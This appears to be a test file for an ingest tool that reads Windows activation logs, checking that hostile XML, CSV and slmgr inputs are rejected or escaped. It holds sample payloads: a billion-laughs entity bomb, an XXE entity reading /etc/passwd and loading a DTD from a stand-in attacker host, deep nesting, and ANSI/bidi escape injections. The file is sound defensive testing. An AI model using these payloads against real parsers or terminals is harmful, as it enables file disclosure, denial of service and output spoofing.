// Hostile text inputs: DTDs and entity bombs, external entities, 100k-deep nesting, a huge single line streamed
// through every line-based reader, an unterminated quote at the start of a big CSV, control characters in names.
// Each gets a clear rejection or a bounded, correct result, and the good records next to them are still read.
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { openInput } from '../../src/ingest/index.js';
import { checkInput, readInput } from '../fuzz/lib/index.js';
import type { ReaderItem } from '../../src/types.js';
import { runCli } from '../cli/run-cli.js';

const events = (items: ReaderItem[]) => items.flatMap((i) => (i.kind === 'event' ? [i.event] : []));
const rejections = (items: ReaderItem[]) => items.flatMap((i) => (i.kind === 'rejected' ? [i.rejection] : []));
const read = (text: string | Buffer, chunkSize = 4096) => readInput(Buffer.from(text), { filter: false, chunkSize });
const ALL_CHECKS = { filter: false, chunkSize: 4096, compareFilter: true, compareChunking: true, compareAccount: true } as const;

function xmlEvent(record: number, data: string, computer = 'PC1.contoso.test'): string {
  return `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-SPP"/><EventID Qualifiers="16384">12288</EventID><Level>4</Level><TimeCreated SystemTime="2024-03-01T10:00:0${record % 10}.000Z"/><EventRecordID>${record}</EventRecordID><Channel>Application</Channel><Computer>${computer}</Computer></System><EventData><Data>${data}</Data></EventData></Event>`;
}
const GOOD_DATA = '0x0, 0x0, kms01.contoso.test:1688, 3a1c8b2e-7f7a-4b4c-9d7e-0123456789ab, 2024/03/01 10:00, 0, 2, 30240, 73111121-5638-40f6-bc11-f1d7b0d64300, 25';

/** A stream of `total` bytes made lazily: `head`, then `fill` repeated, then `tail`; RSS is sampled as it goes. */
function lazyStream(head: string, fill: Buffer, total: number, tail: string, peak: { rss: number }): Readable {
  let sent = 0;
  let pieces = 0;
  const body = total - head.length - tail.length;
  return Readable.from((function* () {
    yield Buffer.from(head);
    while (sent < body) {
      const n = Math.min(fill.length, body - sent);
      sent += n;
      if (++pieces % 64 === 0) peak.rss = Math.max(peak.rss, process.memoryUsage().rss);
      yield n === fill.length ? fill : fill.subarray(0, n);
    }
    yield Buffer.from(tail);
  })());
}

/** Size of the generated single line: 1 GiB (about 5 s for all four here); `VOLACT_HUGE_LINE_MB=4096` runs the multi-GB version. */
const HUGE_MB = Number(process.env.VOLACT_HUGE_LINE_MB ?? 1024);

describe('hostile XML', () => {
  it('skips a DTD with a billion-laughs entity bomb, rejects the event that uses it, reads the others', async () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const text = `<?xml version="1.0"?><!DOCTYPE Events [<!ENTITY lol0 "lol">${levels}]>\n<Events>${xmlEvent(1, GOOD_DATA)}\n${xmlEvent(2, '&lol9;')}\n${xmlEvent(3, GOOD_DATA)}</Events>`;
    const r = await read(text);
    expect(events(r.items).map((e) => e.recordId)).toEqual([1, 3]);
    const reasons = rejections(r.items).map((x) => x.reason);
    expect(reasons).toEqual([expect.stringMatching(/DOCTYPE declaration: volact does not process DTDs/), expect.stringMatching(/undefined entity &lol9;/)]);
    expect(JSON.stringify(r.items)).not.toMatch(/lollol/);
    expect((await checkInput(Buffer.from(text), ALL_CHECKS)).violations).toEqual([]);
  });

  it('never resolves external entities', async () => {
    const text = `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]>\n<Events>${xmlEvent(1, '&xxe;')}${xmlEvent(2, GOOD_DATA)}</Events>`;
    const r = await read(text);
    expect(events(r.items).map((e) => e.recordId)).toEqual([2]);
    expect(rejections(r.items).map((x) => x.reason)).toEqual([expect.stringMatching(/DOCTYPE/), expect.stringMatching(/undefined entity &xxe;/)]);
    expect(JSON.stringify(r.items)).not.toMatch(/root:/);
  });

  it('rejects an event nested 100 000 elements deep without recursion trouble, and reads the next one', async () => {
    const deep = `<Event><System>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</System></Event>`;
    const r = await read(`<Events>${xmlEvent(1, GOOD_DATA)}\n${deep}\n${xmlEvent(3, GOOD_DATA)}</Events>`, 65536);
    expect(events(r.items).map((e) => e.recordId)).toEqual([1, 3]);
    expect(rejections(r.items)).toEqual([expect.objectContaining({ where: 'line 2', reason: expect.stringMatching(/nested deeper than 64/) })]);
    // The same depth outside any <Event>: tags are skipped one by one, nothing is built.
    const bare = await read(`<Events>${'<a>'.repeat(100_000)}${xmlEvent(7, GOOD_DATA)}${'</a>'.repeat(100_000)}</Events>`, 65536);
    expect(events(bare.items).map((e) => e.recordId)).toEqual([7]);
  });

  it('splices: N good events around junk of every kind give N events back', async () => {
    const junk = ['garbage text', '<Event><System>', '<![CDATA[x]]>', '<Event/>', '<Event><System><EventID>x</EventID></System></Event>', '\u0000\u0001', '<!-- unterminated'];
    const parts = [`<Events>`];
    let used = 0;
    for (let i = 0; i < 50; i++) parts.push(xmlEvent(i + 1, GOOD_DATA), i % 4 === 3 ? junk[used++ % junk.length] : '\n');
    parts.push('</Events>');
    const text = parts.join('');
    for (const chunk of [1, 4096, text.length]) {
      const r = await read(text, chunk);
      // An unterminated comment or <Event> swallows what follows up to the next event start, never the event.
      expect(events(r.items).map((e) => e.recordId), `pieces of ${chunk}`).toEqual(Array.from({ length: 50 }, (_, i) => i + 1));
      expect(rejections(r.items).length, `pieces of ${chunk}`).toBeGreaterThanOrEqual(junk.length);
    }
  });
});

describe('a single huge line, streamed', () => {
  const cases: Array<{ name: string; head: string; fill: string; tail: string; kind: string; expectReason: RegExp }> = [
    { name: 'inside an XML event', head: '<Events><Event><System><Computer>', fill: 'A', tail: `</Computer></System></Event>${xmlEvent(9, GOOD_DATA)}</Events>`, kind: 'xml-events', expectReason: /longer than 4 MiB \(\d+ characters\)/ },
    { name: 'in a wevtutil text export', head: 'Event[0]:\n  Log Name: Application\n  Description: ', fill: 'B', tail: '\n', kind: 'text-wevtutil', expectReason: /longer than/ },
    { name: 'in an Event Viewer CSV', head: 'Level,Date and Time,Source,Event ID,Task Category\r\nInformation,3/5/2024 4:30:00 AM,SPP,12288,None,', fill: 'C', tail: '\r\n', kind: 'csv-eventviewer', expectReason: /longer than/ },
    { name: 'in slmgr output', head: 'Name: Windows(R), ServerStandard edition\r\nDescription: ', fill: 'D', tail: '\r\n', kind: 'slmgr', expectReason: /larger than/ },
  ];
  for (const c of cases) {
    it(`${c.name}: rejected with a reason, memory stays bounded (${HUGE_MB} MB)`, async () => {
      const peak = { rss: 0 };
      global.gc?.();
      const before = process.memoryUsage().rss;
      const stream = lazyStream(c.head, Buffer.alloc(64 * 1024, c.fill), HUGE_MB * 1024 * 1024, c.tail, peak);
      const opened = await openInput({ path: '-', display: 'huge' }, {}, stream);
      expect(opened.kind).toBe(c.kind);
      const items: ReaderItem[] = [];
      for await (const item of opened.items) items.push(item);
      expect(rejections(items).some((r) => c.expectReason.test(r.reason)), JSON.stringify(rejections(items))).toBe(true);
      if (c.kind === 'xml-events') expect(events(items).map((e) => e.recordId)).toEqual([9]);
      expect(peak.rss - before).toBeLessThan(200 * 1024 * 1024);
    });
  }
});

describe('hostile CSV', () => {
  const header = 'Level,Date and Time,Source,Event ID,Task Category\r\n';
  const row = (i: number, quoted: boolean) =>
    `Information,3/5/2024 4:30:${String(i % 60).padStart(2, '0')} AM,Microsoft-Windows-Security-SPP,12288,None,${quoted ? `"message ${i}"` : `message ${i}`}\r\n`;

  it('an unterminated quote at the start of a big file that never closes: one runaway row is rejected, reading resumes', async () => {
    // 60 000 rows (5.4 MB) without another quote: the open field runs past the 4 Mi-character row bound.
    const text = `${header}"${Array.from({ length: 60_000 }, (_, i) => row(i, false)).join('')}`;
    const r = await read(text, 65536);
    const bad = rejections(r.items);
    expect(bad).toHaveLength(1);
    expect(bad[0].line).toBe(2);
    expect(bad[0].reason).toMatch(/longer than/);
    expect(events(r.items).length).toBeGreaterThan(10_000);
    expect(events(r.items).at(-1)!.message).toBe('message 59999');
  });

  it('an unterminated quote that pairs with the next quoted field costs only that row', async () => {
    const text = `${header}"${Array.from({ length: 60_000 }, (_, i) => row(i, true)).join('')}`;
    const r = await read(text, 65536);
    expect(rejections(r.items)).toEqual([expect.objectContaining({ line: 2, reason: expect.stringMatching(/a row of 1 field/) })]);
    expect(events(r.items)).toHaveLength(59_999);
  });
});

describe('control characters from input never reach the terminal raw', () => {
  const ESC_OR_BIDI = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it('slmgr text with ANSI escapes and bidi controls in names: parsed, and escaped in the Markdown report', async () => {
    const slmgr = [
      'Name: Windows(R), \u001b[31mServerStandard\u001b[0m edition',
      'Description: Windows(R) Operating System, VOLUME_KMSCLIENT channel \u202eexe.txt',
      'Activation ID: 00091344-1ea4-4f37-b789-01750ba6988c',
      'Partial Product Key: 3V66T',
      'License Status: Licensed',
      'KMS machine name from DNS: \u001b]0;owned\u0007kms\u206601\u2069.contoso.test:1688',
      'Client Machine ID (CMID): 3a1c8b2e-7f7a-4b4c-9d7e-0123456789ab',
      '',
    ].join('\r\n');
    const run = await runCli(['analyze', '-', '--now', '2024-03-08T00:00:00Z'], slmgr);
    expect(run.stdout).toMatch(/ServerStandard/);
    expect(run.stdout).not.toMatch(ESC_OR_BIDI);
    expect(run.stderr).not.toMatch(ESC_OR_BIDI);
  });

  it('XML with control characters in names and junk: analyze and events print them escaped', async () => {
    const xml = `<Events>${xmlEvent(1, GOOD_DATA, 'PC&#x1b;[2J\u202eevil')}\u001b[31mjunk \u2066text\n${xmlEvent(2, '\u001b]8;;http://x\u0007y')}</Events>`;
    const analyze = await runCli(['analyze', '-', '--now', '2024-03-08T00:00:00Z'], xml);
    expect(analyze.stdout).toMatch(/PC/);
    expect(analyze.stdout).not.toMatch(ESC_OR_BIDI);
    expect(analyze.stderr).not.toMatch(ESC_OR_BIDI);
    const ev = await runCli(['events', '-'], xml);
    expect(ev.stderr).toMatch(/text outside any <Event>/);
    expect(ev.stderr).not.toMatch(ESC_OR_BIDI);
  });
});
